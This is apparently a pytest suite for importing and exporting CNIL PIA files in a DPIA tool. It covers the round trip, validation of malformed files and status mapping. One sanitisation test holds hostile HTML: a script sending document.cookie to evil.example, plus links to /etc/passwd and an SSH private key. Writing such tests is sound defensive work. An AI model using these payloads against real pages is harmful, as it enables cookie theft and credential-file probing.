"""CNIL PIA tool interop: the CNIL's example file imports whole, in one change; the round trip
import -> export -> import keeps everything both tools model, field by field; every malformed
file is refused with its place named and imports nothing; hostile HTML arrives harmless."""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from app.domain.dpia import DpiaStatus
from app.domain.dpia_questions import QUESTIONS
from app.domain.rich_text import html_to_text, sanitise_html
from app.errors import UserError
from app.services.changes import revert_change
from app.services.cnil_pia import export_cnil_pia, import_cnil_pia
from app.services.cnil_pia_mapping import plain_to_html
from app.services.cnil_pia_reading import CnilPiaError
from app.services.dpia import create_dpia, get_dpia, list_dpia_rows, list_versions
from app.services.register import add_activity
from app.storage.workspace import Workspace
from tests.fixture_files import CNIL_PIA_EXAMPLE

FIXTURE = CNIL_PIA_EXAMPLE


def _example() -> dict[str, Any]:
    return json.loads(FIXTURE.read_text(encoding="utf-8"))


def _write(tmp_path: Path, document: Any, name: str = "pia.json") -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    return path


def _import(ws: Workspace, path: Path, **options: Any) -> Any:
    return import_cnil_pia(ws, path, actor="tester", **options).record


def _answers(document: dict[str, Any]) -> dict[int, dict[str, Any]]:
    return {a["reference_to"]: a["data"] for a in document["answers"]}


def _evaluations(document: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {e["reference_to"]: e for e in document["evaluations"]}


def _rich(text: str | None) -> str:
    return sanitise_html(text or "")


def _paragraphs(text: str) -> list[str]:
    return [p.strip() for p in re.split(r"\n\s*\n", text) if p.strip()]


def test_the_cnil_example_imports_whole_in_one_change(workspace: Workspace) -> None:
    example = _example()
    result = import_cnil_pia(workspace, FIXTURE, actor="tester")
    assert [r.record_type for r in result.records] == ["dpia", "dpia_version"]
    dpia = get_dpia(workspace, result.record.id)
    # Every answer lands: the principles and context as answers, the rest in the risks.
    answers = {a["question"]: a["text"] for a in dpia["answers"]}
    expected = {
        a["reference_to"]: _rich(a["data"]["text"])
        for a in example["answers"]
        if a["reference_to"] in QUESTIONS
    }
    assert answers == expected and len(answers) == 18
    risks = {r["event"]: r for r in dpia["risks"]}
    access = risks["illegitimate_access"]
    source = _answers(example)
    assert access["impacts"] == source[321]["list"]
    assert access["threats"] == source[322]["list"]
    assert access["sources"] == source[323]["list"]
    assert (access["current_severity"], access["current_likelihood"]) == (3, 4)
    assert access["severity_text"] == _rich(source[325]["text"])
    assert (access["residual_severity"], access["residual_likelihood"]) == (3, 1)
    assert risks["disappearance"]["sources"] == source[343]["list"]
    assert risks["unwanted_modification"]["current_likelihood"] == 2
    # Every measure lands with the tool's id; risks point at them by key, not by title.
    measures = {m["cnil_id"]: m for m in dpia["measures"]}
    assert len(measures) == len(example["measures"]) == 23
    for measure in example["measures"]:
        stored = measures[measure["id"]]
        assert stored["title"] == measure["title"]
        assert stored["description"] == _rich(measure["content"])
    by_key = {m["key"]: m["title"] for m in dpia["measures"]}
    assert [by_key[k] for k in access["measure_keys"]] == source[324]["list"]
    assert [by_key[k] for k in risks["disappearance"]["measure_keys"]] == source[344]["list"]
    # Every evaluation lands as a review; "3.1.<id>" becomes "3.1.<our key>".
    key_of = {m["cnil_id"]: m["key"] for m in dpia["measures"]}
    reviews = {r["target"]: r for r in dpia["reviews"]}
    assert len(reviews) == len(example["evaluations"]) == 40
    for evaluation in example["evaluations"]:
        target = evaluation["reference_to"]
        if target.startswith("3.1."):
            target = f"3.1.{key_of[int(target[4:])]}"
        review = reviews[target]
        assert review["status"] == evaluation["status"]
        assert review["comment"] == _rich(evaluation.get("evaluation_comment"))
        assert review["action_plan_comment"] == _rich(evaluation.get("action_plan_comment"))
    [comment] = dpia["comments"]
    assert comment["target"] == "2.1.212"
    assert html_to_text(comment["text"]).startswith("Le fondement juridique")
    # The people, the opinions and the decision.
    assert (dpia["title"], dpia["author"], dpia["reviewer"], dpia["validator"]) == (
        "Captoo",
        "Elisabeth York",
        "Eric Vincent",
        "Mary Smith",
    )
    assert (dpia["dpo_names"], dpia["dpo_status"]) == ("Michael Thomas (DPO)", "favourable")
    assert html_to_text(dpia["dpo_opinion"]).startswith("L’analyse menée")
    assert dpia["people_views_sought"] is True
    assert (dpia["people_names"], dpia["people_views_status"]) == (
        "Les clients potentiels",
        "favourable",
    )
    assert html_to_text(dpia["rejection_reason"]) == "Rapport incomplet"
    # A signed validation: approved, signed by the validator, with its frozen version.
    assert (dpia["status"], dpia["decided_by"]) == (DpiaStatus.APPROVED, "Mary Smith")
    assert dpia["decided_on"] == date(2018, 2, 21)
    assert [v["number"] for v in list_versions(workspace, dpia.id)] == [1]
    # One change: one undo removes the DPIA and its version.
    revert_change(workspace, result.change_id, actor="tester")
    assert list_dpia_rows(workspace) == []


def _comparable(ws: Workspace, dpia_id: int) -> dict[str, Any]:
    """A DPIA's values with our own keys replaced by what both tools share (measure ids)."""
    values = dict(get_dpia(ws, dpia_id).values)
    ids = {m["key"]: m["cnil_id"] for m in values["measures"]}

    def target(text: str) -> str:
        return f"3.1.{ids[text[4:]]}" if text.startswith("3.1.") else text

    values["measures"] = [{k: v for k, v in m.items() if k != "key"} for m in values["measures"]]
    values["risks"] = [
        {k: v for k, v in r.items() if k != "key"}
        | {"measure_keys": [ids[k] for k in r["measure_keys"]]}
        for r in values["risks"]
    ]
    values["reviews"] = [r | {"target": target(r["target"])} for r in values["reviews"]]
    values["comments"] = [c | {"target": target(c["target"])} for c in values["comments"]]
    for own in ("reference", "created_at", "updated_at"):
        values.pop(own)
    return values


def test_the_round_trip_is_lossless(workspace: Workspace, tmp_path: Path) -> None:
    example = _example()
    first = _import(workspace, FIXTURE)
    exported_path = export_cnil_pia(workspace, first.id, tmp_path / "exported.json")
    exported = json.loads(exported_path.read_text(encoding="utf-8"))
    assert set(exported) == {"pia", "answers", "measures", "evaluations", "comments"}
    # The file, field by field against the tool's own export.
    for key in (
        "name",
        "author_name",
        "evaluator_name",
        "validator_name",
        "dpo_status",
        "dpo_opinion",
        "dpos_names",
        "concerned_people_opinion",
        "concerned_people_status",
        "concerned_people_searched_opinion",
        "concerned_people_searched_content",
        "people_names",
        "rejection_reason",
        "applied_adjustments",
        "status",
        "category",
    ):
        assert exported["pia"][key] == example["pia"][key], key
    assert set(example["pia"]) <= set(exported["pia"])
    theirs, ours = _answers(example), _answers(exported)
    assert set(ours) == set(theirs)
    for question, data in theirs.items():
        assert _rich(ours[question]["text"]) == _rich(data["text"]), question
        assert (ours[question]["gauge"] or 0) == (data["gauge"] or 0), question
        assert ours[question]["list"] == data["list"], question
    assert [(m["id"], m["title"], m["content"]) for m in exported["measures"]] == [
        (m["id"], m["title"], _rich(m["content"])) for m in example["measures"]
    ]
    theirs_ev, ours_ev = _evaluations(example), _evaluations(exported)
    assert set(ours_ev) == set(theirs_ev)
    for reference, evaluation in theirs_ev.items():
        mine = ours_ev[reference]
        assert mine["status"] == evaluation["status"], reference
        assert mine["gauges"] == evaluation["gauges"], reference
        for key in ("evaluation_comment", "action_plan_comment"):
            assert mine[key] == _rich(evaluation.get(key)), (reference, key)
        assert mine["person_in_charge"] == (evaluation.get("person_in_charge") or "")
        assert mine["estimated_implementation_date"] == evaluation["estimated_implementation_date"]
    [comment] = exported["comments"]
    source = example["comments"][0]
    assert (comment["reference_to"], comment["for_measure"]) == (212, False)
    # Plain text keeps its paragraphs and lines; only spaces at a paragraph's ends go.
    assert _paragraphs(comment["description"]) == _paragraphs(source["description"])
    assert comment["created_at"] == source["created_at"]
    # And back: the second DPIA is the first one, field by field.
    second = _import(workspace, exported_path)
    before, after = _comparable(workspace, first.id), _comparable(workspace, second.id)
    assert before.keys() == after.keys()
    for name in before:
        assert after[name] == before[name], name
    # Exporting the copy gives the same file, but for the DPIA's own id and times.
    again = json.loads(export_cnil_pia(workspace, second.id, tmp_path / "again.json").read_text())

    def stable(document: dict[str, Any]) -> dict[str, Any]:
        document = copy.deepcopy(document)
        document["pia"].update(id=0, created_at="", updated_at="")
        for name in ("answers", "measures", "evaluations"):
            for entry in document[name]:
                entry.update(pia_id=0, created_at="")
        for entry in document["comments"]:
            entry["pia_id"] = 0
        return document

    assert stable(again) == stable(exported)


def _change(path: str, value: Any) -> Callable[[dict[str, Any]], Any]:
    def apply(document: dict[str, Any]) -> None:
        *parents, last = [int(p) if p.isdigit() else p for p in path.split(".")]
        target: Any = document
        for part in parents:
            target = target[part]
        target[last] = value

    return apply


MALFORMED = [
    (
        "gauge 7",
        _change("answers.3.data.gauge", 7),
        r"answers\[3\]\.data\.gauge: 7 is not between 0 and 4",
    ),
    (
        "unknown question",
        _change("answers.0.reference_to", 999),
        r"answers\[0\]\.reference_to: 999 is not a question",
    ),
    (
        "question as text",
        _change("answers.0.reference_to", "one"),
        r"answers\[0\]\.reference_to: “one” is not a whole number",
    ),
    ("answers not a list", _change("answers", {"a": 1}), r"answers: expected a list"),
    (
        "data not an object",
        _change("answers.2.data", [1]),
        r"answers\[2\]\.data: expected an object",
    ),
    (
        "list of numbers",
        _change("answers.17.data.list", [1, 2]),
        r"answers\[17\]\.data\.list\[0\]: 1 is not text",
    ),
    ("title not text", _change("measures.0.title", 12), r"measures\[0\]\.title: 12 is not text"),
    (
        "measure id twice",
        _change("measures.1.id", 101),
        r"measures\[1\]\.id: measure id 101 is already used",
    ),
    (
        "unknown measure",
        _change("evaluations.20.reference_to", "3.1.999"),
        r"evaluations\[20\]\.reference_to: “3\.1\.999” is not",
    ),
    (
        "status 9",
        _change("evaluations.0.status", 9),
        r"evaluations\[0\]\.status: 9 is not between 0 and 3",
    ),
    (
        "residual gauge 9",
        _change("evaluations.16.gauges", {"x": 9, "y": 1}),
        r"evaluations\[16\]\.gauges\.x: 9 is not between 0 and 4",
    ),
    (
        "bad date",
        _change("evaluations.16.estimated_implementation_date", "soon"),
        r"evaluations\[16\]\.estimated_implementation_date: “soon” is not a date",
    ),
    (
        "comment on no measure",
        _change("comments.0.for_measure", True),
        r"comments\[0\]\.reference_to: 212 is not a measure",
    ),
    ("pia status 8", _change("pia.status", 8), r"pia\.status: 8 is not between 0 and 4"),
    ("opinion 5", _change("pia.dpo_status", 5), r"pia\.dpo_status: 5 is not between 0 and 1"),
    (
        "long name",
        _change("pia.author_name", "x" * 400),
        r"pia\.author_name: is 400 characters long",
    ),
    ("no pia", lambda d: d.pop("pia"), r"not a CNIL PIA export"),
]


@pytest.mark.parametrize(("case", "damage", "message"), MALFORMED, ids=[m[0] for m in MALFORMED])
def test_a_malformed_file_is_refused_and_imports_nothing(
    workspace: Workspace, tmp_path: Path, case: str, damage: Callable[[Any], Any], message: str
) -> None:
    document = copy.deepcopy(_example())
    damage(document)
    path = _write(tmp_path, document)
    with pytest.raises(CnilPiaError, match=message) as refused:
        import_cnil_pia(workspace, path, actor="tester")
    assert str(refused.value).startswith(str(path))
    assert list_dpia_rows(workspace) == []


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'{"pia": {', "not valid JSON"),
        (b"[1, 2]", "expected an object"),
        ("{}".encode("utf-16"), "not UTF-8"),
        (b"[" * 100_000 + b"]" * 100_000, "nested too deeply|not valid JSON"),
    ],
    ids=["truncated", "a list", "utf-16", "deep nesting"],
)
def test_a_file_that_is_no_json_object_is_refused(
    workspace: Workspace, tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "bad.json"
    path.write_bytes(content)
    with pytest.raises(CnilPiaError, match=message):
        import_cnil_pia(workspace, path)
    assert list_dpia_rows(workspace) == []


def test_an_oversized_file_is_refused_before_it_is_read(
    workspace: Workspace, tmp_path: Path
) -> None:
    path = tmp_path / "huge.json"
    with path.open("wb") as handle:
        handle.truncate(21 * 1024 * 1024)
    with pytest.raises(CnilPiaError, match="at most 20 MB"):
        import_cnil_pia(workspace, path)
    with pytest.raises(UserError, match="cannot read"):
        import_cnil_pia(workspace, tmp_path / "missing.json")
    assert list_dpia_rows(workspace) == []


def test_hostile_html_arrives_as_harmless_text(workspace: Workspace, tmp_path: Path) -> None:
    document = _example()
    hostile = (
        "<script>fetch('https://evil.example/'+document.cookie)</script>"
        "<style>@import url(file:///etc/passwd);</style>"
        '<p>Visible <a href="file:///etc/passwd">local link</a>'
        '<img src="file:///home/user/.ssh/id_rsa" onerror="alert(1)">'
        '<iframe src="https://evil.example"></iframe></p>'
    )
    document["answers"][0]["data"]["text"] = hostile
    document["measures"][0]["content"] = hostile
    document["evaluations"][0]["evaluation_comment"] = hostile
    document["pia"]["dpo_opinion"] = "<script>alert('dpo')</script> agreed"
    document["comments"][0]["description"] = '<img src="file:///etc/passwd"> see above'
    dpia = _import(workspace, _write(tmp_path, document))
    stored = [
        next(a["text"] for a in dpia["answers"] if a["question"] == 121),
        dpia["measures"][0]["description"],
        next(r["comment"] for r in dpia["reviews"] if r["target"] == "1.2"),
    ]
    for text in stored:
        assert text == "<p>Visible local link</p>"
    # The tool's plain-text fields keep markup as visible text, never as markup.
    assert dpia["dpo_opinion"] == "<p>&lt;script&gt;alert('dpo')&lt;/script&gt; agreed</p>"
    assert html_to_text(dpia["comments"][0]["text"]) == '<img src="file:///etc/passwd"> see above'
    for text in [*stored, dpia["dpo_opinion"], dpia["comments"][0]["text"]]:
        assert "<script" not in text and "<img" not in text and "href" not in text


def test_a_validation_our_rules_refuse_arrives_as_a_draft(
    workspace: Workspace, tmp_path: Path
) -> None:
    document = _example()
    risk = next(e for e in document["evaluations"] if e["reference_to"] == "3.2")
    risk["gauges"] = {"x": 4, "y": 4}
    result = import_cnil_pia(workspace, _write(tmp_path, document), actor="tester")
    assert result.record["status"] == DpiaStatus.DRAFT
    assert result.record["decided_on"] is None
    assert "Art. 36" in result.summary
    assert list_versions(workspace, result.record.id) == []


@pytest.mark.parametrize(
    ("code", "status", "decided_by"),
    [
        (0, DpiaStatus.DRAFT, None),
        (1, DpiaStatus.REFUSED, "Mary Smith"),
        (2, DpiaStatus.APPROVED, None),
        (3, DpiaStatus.APPROVED, "Mary Smith"),
        (4, DpiaStatus.DRAFT, None),
    ],
)
def test_the_tools_statuses(
    workspace: Workspace, tmp_path: Path, code: int, status: DpiaStatus, decided_by: str | None
) -> None:
    document = _example()
    document["pia"]["status"] = code
    dpia = _import(workspace, _write(tmp_path, document))
    assert (dpia["status"], dpia["decided_by"]) == (status, decided_by)
    assert len(list_versions(workspace, dpia.id)) == (1 if code in (1, 2, 3) else 0)
    exported = json.loads(export_cnil_pia(workspace, dpia.id, tmp_path / "out.json").read_text())
    assert exported["pia"]["status"] == (0 if code == 4 else code)


def test_risk_measures_are_matched_by_title_or_added(workspace: Workspace, tmp_path: Path) -> None:
    document = _example()
    access = next(a for a in document["answers"] if a["reference_to"] == 324)
    access["data"]["list"] = ["  CHIFFREMENT ", "Gestion des incidents"]
    dpia = _import(workspace, _write(tmp_path, document))
    titles = {m["key"]: m for m in dpia["measures"]}
    keys = next(r for r in dpia["risks"] if r["event"] == "illegitimate_access")["measure_keys"]
    assert [titles[k]["cnil_id"] for k in keys] == [101, None]
    assert titles[keys[1]]["title"] == "Gestion des incidents"
    assert len(dpia["measures"]) == 24
    # On export the new measure is numbered after the tool's ids and listed by title.
    exported = json.loads(export_cnil_pia(workspace, dpia.id, tmp_path / "out.json").read_text())
    assert exported["measures"][-1]["id"] == 125
    assert _answers(exported)[324]["list"] == ["Chiffrement", "Gestion des incidents"]


def test_import_covers_the_activities_named(workspace: Workspace) -> None:
    activity = add_activity(workspace, {"name": "Sleep monitor"}, actor="tester").record
    dpia = _import(workspace, FIXTURE, activity_ids=[activity.id])
    assert dpia["activity_ids"] == [activity.id]
    assert dpia["organisation_id"] == activity["controller_id"]
    with pytest.raises(UserError, match="#404"):
        import_cnil_pia(workspace, FIXTURE, activity_ids=[404])
    with pytest.raises(UserError, match="Organisation #404"):
        import_cnil_pia(workspace, FIXTURE, organisation_id=404)
    assert len(list_dpia_rows(workspace)) == 1


def test_export_fills_empty_register_questions_and_numbers_measures(
    workspace: Workspace, tmp_path: Path
) -> None:
    activity = add_activity(
        workspace,
        {
            "name": "Loyalty programme",
            "description": "Points for each purchase & offers.",
            "purposes": [{"key": "loyal", "purpose": "Rewarding customers", "basis": "6.1.b"}],
        },
        actor="tester",
    ).record
    values = {
        "answers": [{"question": 113, "text": "<p>None.</p>"}],
        "measures": [{"key": "crypt", "title": "Encryption", "status": "planned"}],
        "risks": [
            {
                "key": "acc",
                "event": "illegitimate_access",
                "sources": ["Attacker"],
                "measure_keys": ["crypt"],
                "current_severity": 3,
                "residual_severity": 2,
                "residual_likelihood": 1,
            },
            {"key": "own", "event": "custom", "title": "Re-identification", "sources": ["x"]},
        ],
        "reviews": [{"target": "3.1.crypt", "status": 2, "action_plan_comment": "<p>Do it.</p>"}],
        "comments": [{"target": "3.1.crypt", "text": "<p>Which algorithm?</p>"}],
        "dpo_opinion": "<p>First.</p><p>Second<br>line.</p>",
    }
    dpia_id = create_dpia(workspace, [activity.id], values, actor="tester").record.id
    exported = json.loads(export_cnil_pia(workspace, dpia_id, tmp_path / "out.json").read_text())
    answers = _answers(exported)
    assert "Points for each purchase &amp; offers." in answers[111]["text"]
    assert "Rewarding customers" in answers[211]["text"]
    assert answers[113]["text"] == "<p>None.</p>"
    assert 122 not in answers  # nothing to say, nothing from the register
    assert answers[323]["list"] == ["Attacker"] and answers[324]["list"] == ["Encryption"]
    assert answers[325]["gauge"] == 3
    assert [m["id"] for m in exported["measures"]] == [1]
    evaluations = _evaluations(exported)
    assert evaluations["3.1.1"]["status"] == 2
    assert evaluations["3.2"]["gauges"] == {"x": 2, "y": 1}  # the residual position travels
    assert exported["comments"][0]["reference_to"] == 1
    assert exported["comments"][0]["for_measure"] is True
    assert exported["pia"]["dpo_opinion"] == "First.\n\nSecond\nline."
    assert plain_to_html(exported["pia"]["dpo_opinion"]) == values["dpo_opinion"]
    assert exported["pia"]["status"] == 0 and exported["pia"]["dpo_status"] is None


def test_knowledge_base_measures_keep_their_link_both_ways(
    workspace: Workspace, tmp_path: Path
) -> None:
    """A measure the tool made from its knowledge base (its placeholder names the slug) is
    linked to ours, and goes back out with the same slug."""
    document = json.loads(FIXTURE.read_text(encoding="utf-8"))
    encryption = next(m for m in document["measures"] if m["id"] == 101)
    assert encryption["placeholder"] == "knowledge_base.slugs.PIA_TEC_CHIF.placeholder"
    dpia = _import(workspace, FIXTURE)
    measure = next(m for m in dpia["measures"] if m["cnil_id"] == 101)
    assert measure["knowledge_key"] == "encryption"
    output = export_cnil_pia(workspace, dpia.id, tmp_path / "out.json")
    exported = json.loads(output.read_text(encoding="utf-8"))
    title = encryption["title"]
    back = next(m for m in exported["measures"] if m["title"] == title)
    assert back["placeholder"] == encryption["placeholder"]
    unmapped = [
        m for m in exported["measures"] if m["placeholder"] == "measures.default_placeholder"
    ]
    assert all(m["title"] != title for m in unmapped)
